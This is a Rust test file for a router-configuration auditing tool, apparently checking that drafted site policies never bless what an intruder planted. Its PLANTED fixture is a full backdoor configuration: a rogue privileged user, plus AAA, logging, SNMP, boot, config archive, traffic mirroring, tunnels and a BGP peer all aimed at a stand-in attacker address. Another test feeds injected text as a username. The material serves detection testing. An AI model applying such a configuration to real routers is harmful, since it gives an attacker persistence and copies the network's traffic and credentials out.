//! `seawall init` from the command line: what is drafted, and what never is.

#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
#![allow(clippy::print_stdout, reason = "a skipped test says so")]

mod support;

use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;

use serde_json::Value;
use support::{Place, text};

/// What every router of the site has.
const COMMON: &str = "ip cef\ninterface GigabitEthernet0/0\n ip address 10.0.0.1 255.255.255.0\n\
                      username netops privilege 15 secret 9 $9$TvyPKG5ceI9E.U$Q9S5Rrrl5iRnhXkHUE4PpFZHbHJ.RkVnbUjfFgMMuxQ\n\
                      tacacs-server host 10.0.9.1\nlogging host 10.0.9.2\nntp server 10.0.9.3\n\
                      ip access-list standard MGMT\n permit 10.0.8.0 0.0.0.255\nline con 0\nline vty 0 4\n \
                      access-class MGMT in\n login\nend\n";

/// An intruder's one address in every role, on one device.
const PLANTED: &str = "username cisco_support privilege 15 secret 9 $9$TvyPKG5ceI9E.U$Q9S5Rrrl5iRnhXkHUE4PpFZHbHJ.RkVnbUjfFgMMuxQ\n\
                       tacacs-server host 198.51.100.7\nradius server R\n address ipv4 198.51.100.7 auth-port 1812 acct-port 1813\n\
                       logging host 198.51.100.7\nntp server 198.51.100.7\nsnmp-server host 198.51.100.7 version 2c Tr4ps-from-here\n\
                       snmp-server community L4rge-rooms RO 20\naccess-list 20 permit host 198.51.100.7\n\
                       ip http server\nip http access-class 20\n\
                       ip name-server 198.51.100.7\nboot system tftp i.bin 198.51.100.7\narchive\n path ftp://198.51.100.7/c\n\
                       event manager applet X\n event none\n action 1.0 cli command \"telnet 198.51.100.7\"\n\
                       flow exporter E\n destination 198.51.100.7\nmonitor session 1 type erspan-source\n \
                       source interface GigabitEthernet0/1\n destination\n  erspan-id 7\n  ip address 198.51.100.7\n  \
                       origin ip address 10.0.0.1\ninterface Tunnel1\n tunnel destination 198.51.100.7\n\
                       crypto isakmp key L0ng-rooms address 198.51.100.7\nrouter bgp 64500\n neighbor 198.51.100.7 remote-as 64999\n\
                       interface Vlan5\n ip helper-address 198.51.100.7\ncrypto pki trustpoint T\n \
                       enrollment url http://198.51.100.7/\ncall-home\n profile P\n  destination address http http://198.51.100.7/\n";

fn device(name: &str, more: &str) -> String {
    format!("version 15.2\nhostname {name}\nno aaa new-model\n{more}{COMMON}")
}

fn fleet(count: usize, planted: &[usize]) -> Place {
    let files: Vec<(String, String)> = (0..count)
        .map(|number| {
            let more = if planted.contains(&number) { PLANTED } else { "" };
            (format!("net/r{number}.cfg"), device(&format!("r{number}"), more))
        })
        .collect();
    let files: Vec<(&str, &str)> = files.iter().map(|(path, content)| (path.as_str(), content.as_str())).collect();
    Place::with(&files)
}

/// The lines that state something.
fn live(place: &Place) -> Vec<String> {
    let draft = fs::read_to_string(place.path().join("seawall.yaml")).unwrap();
    let lines = draft.lines().filter(|line| !line.trim_start().starts_with('#'));
    lines.map(|line| line.split("  #").next().unwrap().trim().to_owned()).collect()
}

#[test]
fn what_most_devices_share_is_stated() {
    let place = fleet(6, &[]);
    assert_eq!(place.code(&["init", "net"]), 0);
    assert_eq!(
        live(&place),
        [
            "site:",
            "management_networks:",
            "- 10.0.8.0/24",
            "aaa_servers:",
            "- 10.0.9.1",
            "log_servers:",
            "- 10.0.9.2",
            "time_servers:",
            "- 10.0.9.3",
            "local_users:",
            "- \"netops\"",
        ]
    );
    let output = place.run(&["check", "--exit-zero", "net"]);
    assert!(output.status.success(), "{}", text(&output.stderr));
}

#[test]
fn of_few_devices_nothing_is_most() {
    let place = fleet(4, &[]);
    assert_eq!(place.code(&["init", "net"]), 0);
    assert_eq!(live(&place), ["site:"]);
}

#[test]
fn nothing_that_an_intruder_planted_is_blessed_in_any_role() {
    for planted in [&[2][..], &[0, 1, 2, 3, 4, 5]] {
        let place = fleet(6, planted);
        assert_eq!(place.code(&["init", "net"]), 0);
        let live = live(&place);
        assert!(!live.iter().any(|line| line.contains("198.51.100.7") || line.contains("cisco_support")), "{live:?}");
        let draft = fs::read_to_string(place.path().join("seawall.yaml")).unwrap();
        let named: Vec<&str> = draft.lines().filter(|line| line.contains("- 198.51.100.7")).collect();
        assert_eq!(named.len(), 13, "one for each fact that lists systems: {named:#?}");
        assert!(named.iter().all(|line| line.contains("globally routable") && line.contains("several tasks")));
        assert!(draft.contains("# - \"cisco_support\""), "{draft}");
    }
}

#[test]
fn after_the_draft_a_planted_server_is_certain() {
    let place = fleet(6, &[2]);
    let confidences = || {
        let output =
            place.run(&["check", "--exit-zero", "--format", "json", "--select", "aaa-server-unexpected", "net"]);
        let report: Value = serde_json::from_slice(&output.stdout).unwrap();
        let findings = report["findings"].as_array().unwrap().clone();
        findings.iter().map(|finding| finding["confidence"].as_str().unwrap().to_owned()).collect::<Vec<String>>()
    };
    assert_eq!(confidences(), ["low", "low"]);
    place.run(&["init", "net"]);
    assert_eq!(confidences(), ["high", "high"]);
}

#[test]
fn a_file_that_is_there_is_never_written_over() {
    let place = fleet(5, &[]);
    fs::write(place.path().join("seawall.yaml"), "profile: strict\n").unwrap();
    let complaint = place.complaint(&["init", "net"]);
    assert!(complaint.starts_with("exit 2\n") && complaint.contains("not written over"), "{complaint}");
    assert_eq!(fs::read_to_string(place.path().join("seawall.yaml")).unwrap(), "profile: strict\n");
    let drafted = text(&place.run(&["init", "--output", "-", "net"]).stdout);
    assert!(drafted.contains("\nsite:\n"), "{drafted}");
}

#[test]
fn hostile_text_stays_a_comment_or_a_string() {
    let name = "x\u{202e}\"#:]{";
    let more = format!(
        "username {name} privilege 15 secret 9 $9$TvyPKG5ceI9E.U$Q9S5Rrrl5iRnhXkHUE4PpFZHbHJ.RkVnbUjfFgMMuxQ\nlogging host a\u{202e}b\n"
    );
    let files: Vec<(String, String)> =
        (0..6).map(|number| (format!("net/r{number}.cfg"), device(&format!("r{number}"), &more))).collect();
    let files: Vec<(&str, &str)> = files.iter().map(|(path, content)| (path.as_str(), content.as_str())).collect();
    let place = Place::with(&files);
    assert_eq!(place.code(&["init", "net"]), 0);
    let draft = fs::read_to_string(place.path().join("seawall.yaml")).unwrap();
    assert!(!draft.contains('\u{202e}'), "{draft}");
    let output = place.run(&["check", "--exit-zero", "net"]);
    assert!(output.status.success(), "{}", text(&output.stderr));
}

#[test]
fn own_prefixes_are_said_by_a_person_and_clear_what_lies_in_them() {
    let place = fleet(6, &[0, 1, 2, 3, 4, 5]);
    let arguments = ["init", "--own-prefix", "198.51.100.0/24", "net"];
    assert_eq!(place.code(&arguments), 0);
    let live = live(&place);
    assert!(live.contains(&"- 198.51.100.0/24".to_owned()));
    assert!(!live.contains(&"- 198.51.100.7".to_owned()), "it has several tasks all the same: {live:?}");
}

/// Over many real configurations of one lab: what was judged at low confidence is decided.
#[test]
fn a_lab_of_the_corpus_is_drafted_and_decided() {
    let folder = std::env::var_os("SEAWALL_CORPUS")
        .map_or_else(|| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus")), PathBuf::from);
    let Ok(files) = fs::read_dir(folder.join("cisco-ios/device")) else {
        println!("skipped: no corpus of configurations here");
        return;
    };
    let place = Place::with(&[]);
    fs::create_dir(place.path().join("lab")).unwrap();
    let mut count = 0;
    for file in files.map(Result::unwrap) {
        let name = file.file_name().into_string().unwrap();
        if name.starts_with("batfish__") && (name.contains("__networks__") || name.contains("example")) {
            fs::copy(file.path(), place.path().join("lab").join(&name)).unwrap();
            count += 1;
        }
    }
    assert!(count >= 50, "{count} configurations");
    let before = unexpected(&place);
    let own = ["init", "--own-prefix", "1.0.0.0/8", "--own-prefix", "2.0.0.0/8", "--own-prefix", "3.0.0.0/8", "lab"];
    assert_eq!(place.code(&own), 0);
    let after = unexpected(&place);
    println!("{count} configurations, before {before:?}, after {after:?}");
    assert!(before.get("low").is_some_and(|low| *low >= 50), "{before:?}");
    assert_eq!(after.get("low"), None, "{after:?}");
    assert!(after.values().sum::<usize>() * 4 < before.values().sum::<usize>(), "{before:?} {after:?}");
}

/// Findings of rules about the unexpected, by confidence.
fn unexpected(place: &Place) -> BTreeMap<String, usize> {
    let rules = "aaa-server-unexpected,log-host-unexpected,rt-bgp-unexpected-peer,tun-gre-present,ioc-acl-public-permit,\
                 ioc-copy-destinations,ioc-address-many-roles,tun-static-route-into-tunnel,mirror-remote-dest-unlisted";
    let output = place.run(&["check", "--exit-zero", "--format", "json", "--select", rules, "lab"]);
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let mut counts = BTreeMap::new();
    for finding in report["findings"].as_array().unwrap() {
        *counts.entry(finding["confidence"].as_str().unwrap().to_owned()).or_insert(0) += 1;
    }
    counts
}
